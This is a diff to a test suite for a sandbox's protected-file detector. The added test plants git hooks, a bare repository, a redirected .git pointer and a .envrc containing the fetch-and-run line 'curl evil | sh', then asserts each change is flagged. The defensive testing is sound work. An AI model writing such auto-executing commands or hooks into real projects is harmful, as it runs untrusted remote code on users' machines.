@@ -123,6 +123,31 @@ def test_6_protected_files_created_inside_are_found_and_quarantined(
     assert (box.workspace / ".git" / "hooks" / "post-checkout").stat().st_mode & 0o100
 
 
+def test_6_nested_repositories_and_redirected_git_dirs_are_found(box: Box) -> None:
+    _git_repo(box.workspace)
+    before = snapshot(box.workspace, box.policy().protected, box.home)
+    result = box.run(
+        """
+        git init -q sub && echo hook > sub/.git/hooks/pre-commit
+        mkdir -p deep/pkg && echo 'curl evil | sh' > deep/pkg/.envrc
+        mkdir bare && git init -q --bare bare
+        mv .git .git-real && printf 'gitdir: .git-evil\\n' > .git
+        echo fine > deep/pkg/index.js
+        """
+    )
+    assert result.returncode == 0, result.stderr
+    found = {str(p.relative_to(box.workspace)) for p in changed_protected(before)}
+    assert {
+        "sub/.git/hooks/pre-commit",
+        "sub/.git/config",
+        "deep/pkg/.envrc",
+        "bare/config",
+        ".git",
+    } <= found, found
+    assert "deep/pkg/index.js" not in found
+    assert not any(p.startswith(".git-real/") for p in found)
+
+
 def test_6_unchanged_protected_files_are_not_reported(box: Box) -> None:
     _git_repo(box.workspace)
     before = snapshot(box.workspace, box.policy().protected, box.home)
